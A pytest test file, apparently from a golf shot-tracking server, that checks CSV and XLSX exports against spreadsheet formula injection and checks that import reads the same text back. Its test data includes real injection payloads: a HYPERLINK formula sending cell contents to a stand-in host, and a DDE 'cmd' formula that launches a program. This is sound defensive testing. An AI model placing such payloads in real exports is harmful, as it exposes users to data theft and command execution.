"""What a spreadsheet would run, in every text column: CSV and XLSX hold it as words, and import reads the same back."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import sqlalchemy as sa

from server.analysis.expected_strokes.baseline import load_baseline
from server.files.season_tables.dictionary import tables
from server.files.season_tables.package import write_tables
from server.files.season_tables.seasons import open_season
from server.files.shots_import import import_table
from server.files.shots_rows import read_table
from server.files.spreadsheet_cells import guarded
from server.store.engine import open_database, reading
from server.store.log import push
from tests.files.tables import row, table
from tests.records.made import Season, body_of, change, default_clubs

FORMULAS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1 a tab before",
    "a;=1+1",
    'x"=1+1',
    "'=1+1",
    "''@1",
    "＝1+1",
    "=1+1\n=2+2",
]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")

TEXT = {
    "player": 80,
    "round_id": 60,
    "shot_id": 60,
    "course": 120,
    "tees": 60,
    "ball_label": 60,
    "club": 60,
    "note": 2000,
}
"""Every column of import that takes free words, and how many."""


def filled(number: int, **other: Any) -> dict[str, Any]:
    """A row whose words are all the formula of this number."""
    words = guarded(FORMULAS[number].strip())
    mine = dict.fromkeys(TEXT, words) | {"shot_id": f"{words}{number}", "round_id": f"{words} {number}"}
    return row(**mine, played_on=f"2026-05-{number + 1:02d}", holed="yes", **other)


@pytest.fixture(scope="module")
def files(new_database: Callable[[str, Path], str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Path]]:
    """Rounds whose every word is a formula, setups with such notes, and their tables as CSV and XLSX."""
    engine = open_database(new_database("sqlite", tmp_path_factory.mktemp("formulas")))
    content = table([filled(number) for number in range(len(FORMULAS))])
    import_table(engine, read_table(content))
    season = Season("=1+1 of setups")
    clubs = default_clubs(season)
    season.changes += [
        change("setup", body_of("setup", club_id=next(iter(clubs.values())), note=words, since=f"2026-02-{day:02d}"))
        for day, words in enumerate(FORMULAS, 1)
    ]
    push(engine, season.player_id, "phone", season.changes)
    yield written(engine, tmp_path_factory.mktemp("tables"), ["csv", "xlsx"])
    engine.dispose()


def written(engine: sa.Engine, folder: Path, formats: list[str]) -> list[Path]:
    with reading(engine) as connection:
        season = open_season(connection, 2026, load_baseline("tour"))
        return write_tables(season, folder, list(tables()), formats, package=False)


def test_no_cell_of_any_csv_begins_as_a_formula(files: list[Path]) -> None:
    seen = 0
    for path in (one for one in files if one.suffix == ".csv"):
        texts = {column.name for column in tables()[path.stem.removesuffix("_2026")].columns if column.type == "string"}
        for line in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for name in texts:
                seen += "1+1" in line[name]
                assert not line[name].startswith(RUNS), (path.name, name, line[name])
    assert seen > 5 * len(FORMULAS)


def test_no_cell_of_any_workbook_is_a_formula_and_the_words_are_complete(files: list[Path]) -> None:
    seen = set()
    for path in (one for one in files if one.suffix == ".xlsx"):
        for sheet in openpyxl.load_workbook(path):
            for cell in (cell for line in sheet.iter_rows() for cell in line):
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    seen |= {words.strip() for words in FORMULAS} & {cell.value}
    assert seen == {words.strip() for words in FORMULAS}


def test_they_come_back_the_same(files: list[Path]) -> None:
    path = next(one for one in files if one.name.startswith("shots") and one.suffix == ".csv")
    found = read_table(path.read_bytes()).rows
    for name in ("player", "course", "tees", "club", "note"):
        assert {one[name] for one in found} >= {words.strip() for words in FORMULAS}, name
